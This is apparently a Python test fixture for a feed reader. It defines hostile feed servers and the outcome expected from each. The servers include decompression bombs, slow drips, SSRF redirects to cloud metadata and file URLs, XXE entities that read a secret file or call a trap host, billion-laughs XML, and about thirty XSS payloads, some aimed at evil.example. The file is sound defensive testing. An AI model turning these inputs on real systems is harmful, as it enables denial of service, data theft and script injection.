"""Sources that mean harm, or have come to it: what each answers, and what one poll of it comes to."""

import gzip
import json
import socket
import struct
import time
from dataclasses import dataclass

import brotli
from backports import zstd

from feeds.model import Outcome
from tests.end_to_end.stand import Answer, item, ok, rss

SECRET = "the-secret-of-this-machine"
TITLE = "Read this"
JSON_FEED = {"version": "https://jsonfeed.org/version/1.1", "title": "Stand"}
HEAD = b"HTTP/1.1 200 OK\r\nConnection: close\r\n"


@dataclass(frozen=True, kw_only=True)
class Case:
    """`items` is how many articles of it the store holds afterwards."""

    answer: Answer
    outcome: Outcome
    items: int = 0


def _drip(start: bytes, drop: bytes) -> Answer:
    def answer(conn: socket.socket) -> None:
        conn.sendall(start)
        for _ in range(80):
            conn.sendall(drop)
            time.sleep(0.1)

    return answer


def _endless(conn: socket.socket) -> None:
    conn.sendall(HEAD + b"Content-Type: application/rss+xml\r\n\r\n<rss><channel>")
    while True:
        conn.sendall(item(1).encode() * 500)


def _reset(conn: socket.socket) -> None:
    body = rss("".join(item(n) for n in range(50)))
    conn.sendall(ok(body)[: len(body) // 2])
    conn.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def _bomb(coding: str) -> bytes:
    """A gigabyte of nothing, in a few hundred kilobytes at most."""
    piece = b" " * 10_000_000
    if coding == "gzip":
        made = gzip.compress(piece, 9) * 100
    elif coding == "br":
        packer = brotli.Compressor(quality=1)
        made = b"".join(packer.process(piece) for _ in range(100)) + packer.finish()
    else:
        made = zstd.compress(piece) * 100
    return ok(made, f"Content-Encoding: {coding}")


def _read(items: str | bytes, count: int) -> Case:
    body = items if isinstance(items, bytes) else rss(items)
    return Case(answer=ok(body), outcome=Outcome.FRESH, items=count)


def _json(items: object, count: int) -> Case:
    return _read(json.dumps(JSON_FEED | {"items": items}).encode(), count)


def _status(status: str, outcome: Outcome, *headers: str) -> Case:
    return Case(answer=ok(b"<p>no</p>", *headers, status=status), outcome=outcome)


def _failed(body: bytes, outcome: Outcome, *headers: str) -> Case:
    return Case(answer=ok(body, *headers), outcome=outcome)


def _doctype(subset: str, word: str) -> bytes:
    start, _, rest = rss(item(1, title=word)).partition(b"?>")
    return start + f"?><!DOCTYPE rss [{subset}]>".encode() + rest


def _laughs() -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return _doctype(f'<!ENTITY l0 "ha">{levels}', "&l9;")


TEN = range(1, 11)


def answering(trap: str, secret_file: str) -> dict[str, Case]:
    """By name of the source. `trap` is a host that must not be asked, `secret_file` a file that must not be read."""
    return {
        "slow": Case(answer=lambda conn: time.sleep(8), outcome=Outcome.TIMEOUT),
        "header-drip": Case(answer=_drip(HEAD, b"X-A: 1\r\n"), outcome=Outcome.TIMEOUT),
        "body-drip": Case(answer=_drip(HEAD + b"\r\n<rss>", b" "), outcome=Outcome.TIMEOUT),
        "endless": Case(answer=_endless, outcome=Outcome.TOO_LARGE),
        "gzip-bomb": Case(answer=_bomb("gzip"), outcome=Outcome.TOO_LARGE),
        "brotli-bomb": Case(answer=_bomb("br"), outcome=Outcome.TOO_LARGE),
        "zstd-bomb": Case(answer=_bomb("zstd"), outcome=Outcome.TOO_LARGE),
        "cut-off": Case(answer=ok(rss(item(1)), length=5000), outcome=Outcome.BAD_RESPONSE),
        "reset": Case(answer=_reset, outcome=Outcome.UNREACHABLE),
        "not-http": Case(answer=b"SSH-2.0-OpenSSH_9.2\r\n", outcome=Outcome.BAD_RESPONSE),
        "half-gzip": _failed(gzip.compress(rss(item(1)))[:-20], Outcome.BAD_RESPONSE, "Content-Encoding: gzip"),
        "no-gzip": _failed(rss(item(1)), Outcome.BAD_RESPONSE, "Content-Encoding: gzip"),
        "redirect-loop": _status("302 Found", Outcome.REDIRECT, "Location: /feed"),
        "redirect-private": _status("302 Found", Outcome.FORBIDDEN_ADDRESS, f"Location: {trap}/redirect"),
        "redirect-metadata": _status("301 M", Outcome.FORBIDDEN_ADDRESS, "Location: http://169.254.169.254/latest/"),
        "redirect-file": _status("302 Found", Outcome.FORBIDDEN_ADDRESS, f"Location: file://{secret_file}"),
        "unauthorised": _status("401 Unauthorized", Outcome.HTTP_ERROR),
        "not-found": _status("404 Not Found", Outcome.HTTP_ERROR),
        "gone": _status("410 Gone", Outcome.GONE),
        "rate-limited": _status("429 Too Many Requests", Outcome.RATE_LIMITED, "Retry-After: 7200"),
        "broken": _status("500 Internal Server Error", Outcome.HTTP_ERROR),
        "unavailable": _status("503 Service Unavailable", Outcome.HTTP_ERROR, "Retry-After: 7200"),
        "unasked-304": Case(answer=b"HTTP/1.1 304 Not Modified\r\n\r\n", outcome=Outcome.BAD_RESPONSE),
        "web-page": _failed(b"<!doctype html><title>Log in</title><p>Please log in.", Outcome.NOT_A_FEED),
        "picture": _failed(
            b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, Outcome.NOT_A_FEED, "Content-Type: image/png"
        ),
        "opml": _failed(b'<opml version="2.0"><head/><body/></opml>', Outcome.NOT_A_FEED),
        "empty": _failed(b"", Outcome.EMPTY),
        "white-space": _failed(b" \r\n\t" * 1000, Outcome.EMPTY),
        "zeros": _failed(b"\0" * 100_000, Outcome.NOT_A_FEED),
        "truncated": _read(rss(item(1) + item(2) + item(3))[:-130], 2),
        "wrong-encoding": _read(rss(item(1, title="Caf\u00e9 d\u00e9j\u00e0 vu")).decode().encode("cp1252"), 1),
        "unknown-encoding": _read(rss(item(1)).replace(b"utf-8", b"x-klingon"), 1),
        "utf-16": _read(rss(item(1)).decode().replace("utf-8", "utf-16").encode("utf-16"), 1),
        "billion-laughs": _read(_laughs(), 1),
        "entity-file": _read(_doctype(f'<!ENTITY x SYSTEM "file://{secret_file}">', "&x;"), 1),
        "entity-http": _read(_doctype(f'<!ENTITY x SYSTEM "{trap}/entity">', "&x;"), 1),
        "entity-parameter": _read(_doctype(f'<!ENTITY % p SYSTEM "{trap}/parameter"> %p;', "T"), 1),
        "doctype-http": _read(rss(item(1)).replace(b"?>", f'?><!DOCTYPE rss SYSTEM "{trap}/d">'.encode(), 1), 1),
        "style-http": _read(rss(item(1)).replace(b"?>", f'?><?xml-stylesheet href="{trap}/s"?>'.encode(), 1), 1),
        "include-http": _read(
            item(1) + f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{trap}/include"/>', 1
        ),
        "ten-thousand": _read("".join(item(n) for n in range(10_000)), 10_000),
        "same-guid": _read("".join(item(n, guid="guid") for n in TEN), 10),
        "same-link": _read("".join(item(n, link="https://stand.example/", guid="") for n in TEN), 10),
        "same-everything": _read("".join(item(n, link="https://stand.example/", guid="0") for n in TEN), 10),
        "no-keys": _read("".join(item(n, link="", guid="") for n in TEN), 10),
        "dates": _read("".join(item(n, pubDate=date) for n, date in enumerate(DATES)), len(DATES)),
        "controls": _read(rss(item(1, title=f"{TITLE} &#0;&#8;&#x1F;&#xFFFE;&#xD800;\x01\x0b\x1b\x7f")), 1),
        "json-controls": _json(
            [{"id": "1", "title": f"{TITLE} \0\b\x1f\ufffe\ud800", "content_text": "\udfff\x07"}], 1
        ),
        "long-title": _read(item(1, title="A word of it " * 80_000), 1),
        "long-guid": _read(item(1, guid="g" * 1_000_000, link="https://stand.example/" + "l" * 1_000_000), 1),
        "long-date": _read(item(1, pubDate="1" * 500_000), 1),
        "categories": _read(item(1, more="".join(f"<category>c{n}</category>" for n in range(100_000))), 1),
        "links": _read(item(1, description="&lt;a href='/x'&gt;x&lt;/a&gt; " * 50_000), 1),
        "giants": _read("".join(item(n, description=f"Giant {n} " * 40_000) for n in TEN), 10),
        "deep-html": _read(item(1, description="&lt;div&gt;" * 5000 + "deep" + "&lt;/div&gt;" * 5000), 1),
        "deep-xml": _failed(rss(item(1) + "<x>" * 5000 + "</x>" * 5000), Outcome.UNPARSEABLE),
        "angles": _read(rss(item(1)).replace(b"</channel>", b"<" * 500_000 + b"</channel>"), 1),
        "ampersands": _read(item(1, description="&" * 500_000), 1),
        "comments": _read("<!--" + "- " * 200_000 + "-->" + item(1), 1),
        "json-half-pairs": _read(
            json.dumps(
                JSON_FEED
                | {"language": "\ud800", "home_page_url": "https://stand.example/\ud800"}
                | {"items": [{"id": "\udfff", "title": f"{TITLE} \ud800"}, {"title": "\ud800"}]}
            ).encode(),
            1,
        ),
        "json-nan": _read(
            json.dumps(JSON_FEED | {"items": [{"id": "1", "title": TITLE}], "x": float("nan")}).encode(), 1
        ),
        "json-deep": _failed(
            b'{"version":"https://jsonfeed.org/version/1","items":' + b"[" * 100_000, Outcome.UNPARSEABLE
        ),
        "json-types": _json([*JSON_ODDITIES, {"id": "1", "title": TITLE}], 3),
        "json-numbers": _read(json.dumps(JSON_FEED).encode()[:-1] + b', "items": [{"id": 1' + b"0" * 5000 + b"}]}", 1),
        "xss-rss": _read("".join(map(_xss_item, range(len(PAYLOADS)))), len(PAYLOADS)),
        "xss-atom": _read(_xss_atom(), len(PAYLOADS)),
        "xss-json": _json([_xss_json(n) for n in range(len(PAYLOADS))], len(PAYLOADS)),
    }


DATES = (
    "Fri, 31 Dec 9999 23:59:59 GMT",
    "9999-12-31T23:59:59-14:00",
    "0001-01-01T00:00:00+14:00",
    "Mon, 01 Jan 0001 00:00:00 GMT",
    "yesterday, more or less",
    "32 Foo 2026 99:99:99",
    "-1",
    "0",
    "99999999999999999999",
    "2026-02-30T25:61:61Z",
    "Tue, 10 Jun 2036 04:00:00 +9999",
)

# Names of what a text may not be: none may cost more than itself.
JSON_ODDITIES = (
    None, 1, "text", [], {"id": {}, "title": [], "content_html": 5, "url": {}, "date_published": [], "tags": "x"},
    {"id": "2", "title": TITLE, "authors": "me", "attachments": [1, None, {}], "image": 7, "tags": [1, None, {}]},
)  # fmt: skip

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>".replace("\x01", "&#1;"),
    "<a href='vbscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<form action=//evil.example/><input name=password><button>Go</button></form>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<p style='position:fixed;top:0;background:url(//evil.example/x)'>x</p>",
    "<div onmouseover='alert(1)'>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "'\"--></style></script><script>alert(1)</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _xss_item(number: int) -> str:
    payload = PAYLOADS[number]
    word, cdata = _escaped(payload), f"<![CDATA[{payload.replace(']]>', '')}]]>"
    return item(
        number,
        title=f"{TITLE} {number} {word}",
        link=f"javascript:alert({number})" if number % 2 else f"https://stand.example/{number}?q={word}",
        guid=word + str(number),
        description=f"{number} {word}",
        author=word,
        category=word,
        comments=word,
        pubDate=word,
        enclosure="",
        **{"content:encoded": f"{cdata} {number}", "dc:creator": word, "dc:rights": word, "media:credit": word},
    ).replace("</item>", f'<enclosure url="{word}" type="{word}" length="1"/><media:thumbnail url="{word}"/>'
              f'<source url="{word}">{word}</source></item>')  # fmt: skip


def _xss_atom() -> bytes:
    entries = "".join(
        f'<entry><id>{_escaped(p)}{n}</id><title type="{("text", "html")[n % 2]}">{TITLE} {n} {_escaped(p)}</title>'
        f'<link href="{_escaped(p)}"/><link rel="enclosure" href="{_escaped(p)}" title="{_escaped(p)}"/>'
        f"<author><name>{_escaped(p)}</name><uri>{_escaped(p)}</uri><email>{_escaped(p)}</email></author>"
        f'<category term="{_escaped(p)}" label="{_escaped(p)}" scheme="{_escaped(p)}"/>'
        f"<updated>{_escaped(p)}</updated><rights>{_escaped(p)}</rights><summary>{_escaped(p)}</summary>"
        f'<content type="html" xml:lang="{_escaped(p)}" xml:base="{_escaped(p)}">{_escaped(p)} {n}</content></entry>'
        for n, p in enumerate(PAYLOADS)
    )
    word = _escaped(PAYLOADS[0])
    return (
        f'<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><id>{word}</id>'
        f'<title type="html">{word}</title>'
        f'<subtitle>{word}</subtitle><link href="javascript:alert(1)"/><rights>{word}</rights>{entries}</feed>'
    ).encode()


def _xss_json(number: int) -> dict[str, object]:
    payload = PAYLOADS[number]
    return {
        "id": f"{payload}{number}", "url": payload, "external_url": payload, "title": f"{TITLE} {number} {payload}",
        "summary": payload, "content_html": f"{payload} {number}", "image": payload, "banner_image": payload,
        "date_published": payload, "authors": [{"name": payload, "url": payload, "avatar": payload}],
        "tags": [payload], "language": payload,
        "attachments": [{"url": payload, "mime_type": payload, "title": payload}],
    }  # fmt: skip
